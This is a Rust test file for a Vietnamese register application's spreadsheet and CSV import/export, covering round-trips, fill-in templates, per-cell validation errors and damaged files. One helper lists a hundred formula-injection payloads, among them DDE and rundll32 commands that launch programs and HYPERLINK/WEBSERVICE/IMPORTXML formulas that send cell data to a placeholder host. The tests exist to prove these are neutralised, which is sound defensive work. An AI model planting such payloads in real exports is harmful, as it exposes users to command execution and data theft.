use dondoc_core::{
    entry::{FieldValue, Fields},
    pack::{Pack, Severity},
    unit::UnitId,
};
use jiff::civil::date;
use serde_json::json;

use super::*;
use crate::grid::{self, Limits};

fn pack() -> Pack {
    let text = |it: &str| json!({ "vi": it, "en": it });
    serde_json::from_value(json!({
        "pack": { "code": "X", "name": text("X"), "version": 1, "valid_from": "2020-01-01" },
        "breakdowns": [{ "code": "loai", "name": text("Loại"), "options": [
            { "code": "bao_lu", "name": text("Bão, lũ, ngập lụt") },
            { "code": "khac", "name": text("Khác; chưa rõ") },
        ] }],
        "registers": [{
            "code": "so", "name": text("Sổ thử"), "fields": [
                { "code": "ten", "name": text("Tên"), "kind": "text", "required": true },
                { "code": "ngay", "name": text("Ngày"), "kind": "day", "required": true },
                { "code": "so_nguoi", "name": text("Số người"), "kind": "number", "measure": "người" },
                { "code": "tien", "name": text("Kinh phí"), "kind": "number", "measure": "triệu đồng", "decimals": 1 },
                { "code": "co", "name": text("Lồng ghép"), "kind": "yes_no" },
                { "code": "loai", "name": text("Loại"), "kind": "choice", "options": "loai" },
                { "code": "cac_loai", "name": text("Các loại"), "kind": "choices", "options": "loai" },
                { "code": "dia_ban", "name": text("Địa bàn"), "kind": "unit" },
                { "code": "cac_dia_ban", "name": text("Các địa bàn"), "kind": "units" },
                { "code": "van_ban", "name": text("Văn bản"), "kind": "document" },
            ],
            "checks": [{ "code": "E-1", "holds": "so_nguoi <= 1000", "severity": "error",
                         "message": text("Quá nhiều người"), "remedy": text("Kiểm tra lại") }],
        }],
    }))
    .unwrap()
}

fn with_paper<T>(work: impl FnOnce(&Paper<'_>) -> T) -> T {
    let pack = pack();
    let unit_name = |unit: UnitId| match unit.0 {
        1 => "Xã Bình An".to_owned(),
        // Two units have this name, so they are written by their codes.
        2 => "02002".to_owned(),
        it => format!("đơn vị {it}"),
    };
    let find_unit = |text: &str| match text {
        "Xã Bình An" | "binh an" => vec![UnitId(1)],
        "02002" => vec![UnitId(2)],
        "Đông Khê" => vec![UnitId(2), UnitId(3)],
        _ => Vec::new(),
    };
    let document = |id: i64| (id == 7).then(|| "25/BC-UBND".to_owned());
    work(&Paper {
        pack: &pack,
        register: &pack.registers[0],
        unit_name: &unit_name,
        find_unit: &find_unit,
        document: &document,
        today: date(2026, 11, 22),
    })
}

fn entry(name: &str) -> Line {
    let text = |it: &str| it.to_owned();
    let fields = Fields::from([
        (text("ten"), FieldValue::Text(text(name))),
        (text("ngay"), FieldValue::Day(date(2026, 7, 5))),
    ]);
    Line { unit: UnitId(1), fields }
}

fn full() -> Line {
    let mut line = entry("Lớp bồi dưỡng \"đối tượng 4\";\nkhóa 2");
    let text = |it: &str| it.to_owned();
    line.unit = UnitId(2);
    line.fields.extend([
        (text("so_nguoi"), FieldValue::Number(1000)),
        (text("tien"), FieldValue::Number(12_345)),
        (text("co"), FieldValue::YesNo(false)),
        (text("loai"), FieldValue::Choice(text("khac"))),
        (text("cac_loai"), FieldValue::Choices(vec![text("bao_lu"), text("khac")])),
        (text("dia_ban"), FieldValue::Unit(UnitId(1))),
        (text("cac_dia_ban"), FieldValue::Units(vec![UnitId(1), UnitId(2)])),
        (text("van_ban"), FieldValue::Document(7)),
    ]);
    line
}

const EXPORT: Purpose<'static> = Purpose::Export { note: "Xuất từ Dondoc ngày 22/11/2026" };

#[track_caller]
fn lines(arrived: &Arrived) -> Vec<Line> {
    assert!(arrived.findings.is_empty(), "{:?}", arrived.findings);
    let line = |it: &Row| {
        assert!(it.findings.is_empty(), "{:?}", it.findings);
        Line { unit: it.unit.unwrap(), fields: it.fields.clone() }
    };
    arrived.rows.iter().map(line).collect()
}

#[test]
fn what_is_written_reads_back_as_it_was() {
    with_paper(|paper| {
        let all = vec![full(), entry("Bình thường")];
        let book = write(paper, &all, EXPORT).unwrap();
        assert_eq!(lines(&read(&book, paper, None)), all);
        assert_eq!(lines(&read_csv(&write_csv(paper, &all), paper, None)), all);
    });
}

/// What spreadsheets work out, in many disguises.
fn payloads() -> Vec<String> {
    let formulas = [
        "1+1",
        "cmd|'/C calc'!A0",
        "HYPERLINK(\"http://x.example/?\"&A1;\"bấm\")",
        "WEBSERVICE(\"http://x.example\")",
        "IMPORTXML(CONCAT(\"http://x.example\";A1);\"//a\")",
        "DDE(\"cmd\";\"/C calc\";\"x\")",
        "SUM(1;1)*cmd|'/C calc'!A0",
        "2+5+cmd|'/C calc'!A0",
        "rundll32|'URL.dll,OpenURL calc'!A",
        "INDIRECT(\"A\"&ROW())",
    ];
    let starts = ["=", "+", "-", "@", "＝", "＋", "＠", "'=", "''=", "|="];
    let all = starts.iter().flat_map(|start| formulas.iter().map(move |it| format!("{start}{it}")));
    all.collect()
}

/// The cells of all sheets that hold a formula.
fn n_formulas(book: &[u8]) -> usize {
    let limits = Limits { rows: 10_000, cells: 100_000 };
    let grids = grid::open(book, limits).unwrap();
    grids.iter().flat_map(|it| it.cells.values()).filter(|it| it.formula).count()
}

#[test]
fn a_hundred_formulas_stay_texts_and_read_back_as_they_were() {
    let payloads = payloads();
    assert_eq!(payloads.len(), 100);
    with_paper(|paper| {
        let all: Vec<Line> = payloads.iter().map(|it| entry(it)).collect();
        let book = write(paper, &all, EXPORT).unwrap();
        assert_eq!(n_formulas(&book), 0);
        assert_eq!(lines(&read(&book, paper, None)), all);

        let table = write_csv(paper, &all);
        let text = std::str::from_utf8(&table).unwrap();
        let mut reader = csv::ReaderBuilder::new().delimiter(b';').from_reader(text.as_bytes());
        for record in reader.records() {
            for cell in &record.unwrap() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '＝', '＋', '＠', '\t', '\r']),
                    "{cell}"
                );
            }
        }
        assert_eq!(lines(&read_csv(&table, paper, None)), all);
    });
}

#[test]
fn a_formula_in_a_workbook_is_refused_where_it_stands() {
    use rust_xlsxwriter::Workbook;
    with_paper(|paper| {
        let mut book = Workbook::new();
        let sheet = book.add_worksheet();
        for (column, heading) in (0..).zip(["Đơn vị", "Tên", "Ngày"]) {
            sheet.write_string(0, column, heading).unwrap();
        }
        sheet.write_string(1, 0, "Xã Bình An").unwrap();
        sheet.write_formula(1, 1, "=1+1").unwrap();
        sheet.write_string(1, 2, "5/7").unwrap();
        let arrived = read(&book.save_to_buffer().unwrap(), paper, None);
        let row = &arrived.rows[0];
        assert_eq!(row.findings.len(), 1, "{:?}", row.findings);
        assert_eq!(row.findings[0].place.cell.as_deref(), Some("B2"));
        assert_eq!(row.findings[0].fault, dondoc_core::finding::Fault::Formula);
    });
}

#[test]
fn a_sheet_to_fill_in_has_the_headings_and_the_choices_and_no_entry() {
    with_paper(|paper| {
        let units = ["Xã Bình An".to_owned(), "02002".to_owned()];
        let book = write(paper, &[], Purpose::FillIn { units: &units }).unwrap();
        assert_eq!(read(&book, paper, None), Arrived::default());
        let limits = Limits { rows: 10_000, cells: 100_000 };
        let grids = grid::open(&book, limits).unwrap();
        let heads: Vec<String> = (0..4).map(|it| grids[0].text(HEADINGS_ROW, it)).collect();
        assert_eq!(heads, ["Đơn vị", "Tên *", "Ngày *", "Số người (người)"]);
        assert_eq!(grids[1].name, "Danh mục");
        let listed: Vec<String> = (0..3).map(|it| grids[1].text(it, 1)).collect();
        assert_eq!(listed, ["Loại", "Bão, lũ, ngập lụt", "Khác; chưa rõ"]);
        assert_eq!(grids[1].text(2, 0), "02002");
    });
}

const HEADINGS_ROW: u32 = 2;

#[test]
fn every_wrong_cell_is_told_at_its_place_and_the_rest_is_read() {
    let table = "Đơn vị;Tên;Ngày;Số người (người);Kinh phí;Lồng ghép;Loại;Địa bàn;Lạ\n\
                 Đông Khê;Lớp 1;31/02/2026;mười;1.234;có lẽ;Động đất;Xã Lạ;thừa\n\
                 ;;5/7;1001;;;;;\n\
                 Xã Bình An;Lớp 3;hôm nay;12;1.234,5;có;bao, lu, ngap lut;binh an;\n";
    with_paper(|paper| {
        let arrived = read_csv(table.as_bytes(), paper, None);
        let told = |row: &Row| -> Vec<(Option<String>, String)> {
            let one = |it: &Finding| {
                assert_eq!(it.severity(), Severity::Error);
                let fault = serde_json::to_value(&it.fault).unwrap();
                (it.place.cell.clone(), fault["code"].as_str().unwrap().to_owned())
            };
            row.findings.iter().map(one).collect()
        };
        let at = |cell: &str, code: &str| (Some(cell.to_owned()), code.to_owned());
        assert_eq!(
            told(&arrived.rows[0]),
            [
                at("A2", "unknown_unit"),
                at("C2", "wrong_kind"),
                at("D2", "not_a_number"),
                at("E2", "ambiguous_number"),
                at("F2", "wrong_kind"),
                at("G2", "unknown_option"),
                at("H2", "unknown_unit"),
                at("I2", "unknown_field"),
            ]
        );
        assert_eq!(told(&arrived.rows[1]), [at("A3", "field_missing"), at("B3", "field_missing")]);
        let good = &arrived.rows[2];
        assert!(good.findings.is_empty(), "{:?}", good.findings);
        assert_eq!((good.number, good.unit), (4, Some(UnitId(1))));
        assert_eq!(good.fields["ngay"], FieldValue::Day(date(2026, 11, 22)));
        assert_eq!(good.fields["tien"], FieldValue::Number(12_345));
        assert_eq!(good.fields["loai"], FieldValue::Choice("bao_lu".to_owned()));
    });
}

#[test]
fn a_rule_that_does_not_hold_is_told_at_its_row() {
    let table = "Đơn vị;Tên;Ngày;Số người\nXã Bình An;Lớp;5/7;1001\n";
    with_paper(|paper| {
        let arrived = read_csv(table.as_bytes(), paper, None);
        let finding = &arrived.rows[0].findings[0];
        assert_eq!((finding.place.row, finding.place.cell.as_deref()), (Some(2), None));
    });
}

#[test]
fn a_row_without_a_unit_is_one_of_the_unit_that_the_sheet_is_for() {
    let table = "Tên\tNgày\nLớp\t5/7/2026\n";
    with_paper(|paper| {
        let arrived = read_csv(table.as_bytes(), paper, Some(UnitId(9)));
        assert_eq!(arrived.rows[0].unit, Some(UnitId(9)));
    });
}

#[test]
fn damaged_and_foreign_files_are_refused_and_never_stop_the_reader() {
    with_paper(|paper| {
        let book = write(paper, &[full()], EXPORT).unwrap();
        for cut in [0, 1, 10, 100, book.len() / 2, book.len() - 1] {
            let arrived = read(&book[..cut], paper, None);
            assert!(arrived.rows.is_empty() && !arrived.findings.is_empty(), "{cut} bytes");
        }
        for at in (0..book.len()).step_by(97) {
            let mut broken = book.clone();
            broken[at] ^= 0x5a;
            // Read or refused; whatever is read has its findings.
            drop(read(&broken, paper, None));
        }
        assert_eq!(read_csv(b"\xff\xfe\x00", paper, None).findings.len(), 1);
        assert_eq!(read_csv(b"a;b\n1;2\n", paper, None).findings.len(), 1);
        assert_eq!(read_csv(b"", paper, None).findings.len(), 1);
    });
}
